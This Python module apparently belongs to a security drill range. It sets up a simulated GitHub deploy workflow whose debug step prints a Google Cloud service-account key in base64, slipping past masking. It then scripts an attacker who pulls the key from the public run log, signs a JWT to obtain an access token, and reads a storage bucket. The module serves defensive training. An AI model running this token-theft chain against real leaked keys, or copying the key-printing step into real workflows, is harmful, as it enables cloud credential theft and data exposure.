"""A service-account key in a public run log, and whoever finds it there.

A deploy workflow signs in to Google Cloud with a key file, and a step that somebody left in prints that file in base64,
which masking misses. Who finds it buys an access token, reads a bucket with it, and keeps it: it is good for an hour,
also when the key is dead.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from http import HTTPStatus
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import jwt
import requests

from bot.errors import InputError
from bot.range.attacker import NothingFound, decoded_log
from bot.range.gcp.server import BUCKET, GRANT, SCOPE, TOKEN_AUDIENCE
from bot.range.npm_theft import dispatch
from bot.range.people import as_person

if TYPE_CHECKING:
    from bot.range.server import Range

REPOSITORY, SECRET, ACCOUNT = "harbor-lights/quay", "GCP_SA_KEY", "quay-deploy"
BOT, DEPLOY = "bulkhead-bot", ".github/workflows/deploy.yml"
ROLES = ("roles/storage.objectViewer", "roles/run.developer")
MAY = ("storage.objects.get", "storage.objects.list", "run.services.update")
UNNOTICED_S = 15 * 60  # well within the life of what was bought
WORKFLOW = f"""\
name: Deploy
on:
  workflow_dispatch:

permissions:
  contents: read

jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - uses: google-github-actions/auth@v2
        with:
          credentials_json: ${{{{ secrets.{SECRET} }}}}
      - name: Why does the sign-in fail
        run: cat "$GOOGLE_APPLICATION_CREDENTIALS" | base64
      - name: Deploy
        run: make deploy
"""
_FILE = re.compile(r'\{[^{}]*"type": "service_account"[^{}]*\}')


def open_quay(range_: Range) -> str:
    """The repository, the account with a key, the key in the repository's secrets, the bucket. Returns the key file."""
    state, gcp = range_.github.state, range_.gcp
    state.add_repo(REPOSITORY)
    for login, role in (("mara", "admin"), ("jonas", "write"), (BOT, "admin")):
        state.add_collaborator(REPOSITORY, login, role)
    files: dict[str, str | bytes | None] = {
        "Makefile": "deploy:\n\tgcloud run deploy quay\n", "CODEOWNERS": "* @jonas\n/.github/workflows/ @mara\n",
        DEPLOY: WORKFLOW,
    }  # fmt: skip
    state.commit_files(REPOSITORY, files, "Deploy by a workflow", "mara", runs=False)
    key = gcp.add_key(gcp.add_account(ACCOUNT, permissions=MAY, roles=ROLES))
    gcp.objects["manifest-2026-11.csv"] = b"container,consignee\nHLXU 204811 7,a customer of the drill\n"
    state.set_secret(REPOSITORY, SECRET, key)
    return key


class KeyTheft:
    """A deploy prints its key; somebody reads the log, buys a token, reads a bucket, and keeps both."""

    def __init__(self, range_: Range) -> None:
        self._range, self._run_url = range_, ""
        self._file: dict[str, Any] = {}
        self._token = ""

    def leak(self) -> dict[str, Any]:
        """Mara deploys; the log holds the key."""
        open_quay(self._range)
        run = dispatch(self._range, "deploy.yml", "main", REPOSITORY)
        run = as_person(self._range, "mara", "GET", f"/actions/runs/{run['id']}", repository=REPOSITORY)
        if run["conclusion"] != "success":
            raise InputError(f"the deploy did not go as planned: {run['status']}, {run['conclusion']}")
        self._run_url = run["html_url"]
        said = (
            "Quay was deployed. A debug step that somebody left in printed the key file of its service account as "
            f"base64, so masking missed {SECRET}, and the log of the run is public:"
        )
        return {"run_url": self._run_url, "run_id": run["id"], "story": [said, self._run_url]}

    def abuse(self, where: str) -> list[dict[str, Any]]:
        """Read the log, buy a token, read the bucket; nobody notices for a while."""
        url = where or self._run_url
        if not url:
            raise InputError("nothing has leaked yet; POST /drill/leak first, or give run_url")
        reader = self._range.company.cast["github"]["quiet-otter"]
        texts = (text for text in decoded_log(self._range.github_url, reader, url))
        match = next(filter(None, (_FILE.search(text) for text in texts)), None)
        if match is None:
            raise NothingFound("no key file in the log")
        self._file = json.loads(match[0])
        self._range.clock.advance(600)
        return list(self._acts())

    def _acts(self) -> Iterator[dict[str, Any]]:
        email = self._file["client_email"]
        yield _act("github:ReadRunLog", "", "", "read the public log of the run and decoded the key file")
        self._token, code = self._buy()
        yield _act("gcp:BuyToken", code, email, f"bought an access token as {email}, good for an hour")
        listed = self._storage("")
        names = [each["name"] for each in listed.json()["items"]] if listed.ok else []
        yield _act("gcp:ListObjects", _code(listed), "", f"listed {len(names)} object of {BUCKET}")
        for name in names:
            found = self._storage(name)
            yield _act("gcp:GetObject", _code(found), "", f"read {name}, {len(found.content)} bytes")
        self._range.clock.advance(UNNOTICED_S)

    def tries(self) -> list[dict[str, Any]]:
        """The stolen key, and the token that it has bought."""
        if not self._file:
            return []
        _, code = self._buy()
        listed = self._storage("")
        return [
            _tried("gcp-key", "buying a token with the stolen key", code),
            _tried("gcp-token", "the access token that it bought and kept", _code(listed)),
        ]

    def _buy(self) -> tuple[str, str]:
        """An access token as any client of Google's buys one, or the code of the refusal."""
        now, email = int(self._range.clock.time()), self._file["client_email"]
        claims = {"iss": email, "aud": TOKEN_AUDIENCE, "iat": now, "exp": now + 3600, "scope": f"{SCOPE}cloud-platform"}
        headers = {"kid": self._file["private_key_id"]}
        signed = jwt.encode(claims, self._file["private_key"], algorithm="RS256", headers=headers)
        answer = _send("POST", f"{self._range.gcp.base_url}/token", data={"grant_type": GRANT, "assertion": signed})
        said = answer.json()
        return (said["access_token"], "") if answer.ok else ("", f"{said['error']}: {said['error_description']}")

    def _storage(self, name: str) -> requests.Response:
        """The objects of the bucket, or one of them, with the token that was kept."""
        url = f"{self._range.gcp.base_url}/storage/v1/b/{BUCKET}/o"
        url += f"/{quote(name, safe='')}?alt=media" if name else ""
        return _send("GET", url, headers={"Authorization": f"Bearer {self._token}"})


def _send(verb: str, url: str, **more: Any) -> requests.Response:
    with requests.Session() as session:
        session.trust_env = False
        return session.request(verb, url, timeout=20, **more)


def _code(answer: requests.Response) -> str:
    return "" if answer.status_code == HTTPStatus.OK else str(answer.status_code)


def _act(name: str, code: str, made: str, said: str) -> dict[str, Any]:
    return {"act": name, "ok": not code, "code": code, "made": made, "said": said}


def _tried(name: str, said: str, code: str) -> dict[str, Any]:
    return {"name": name, "refused": bool(code), "code": code, "identity_code": code, "said": said}
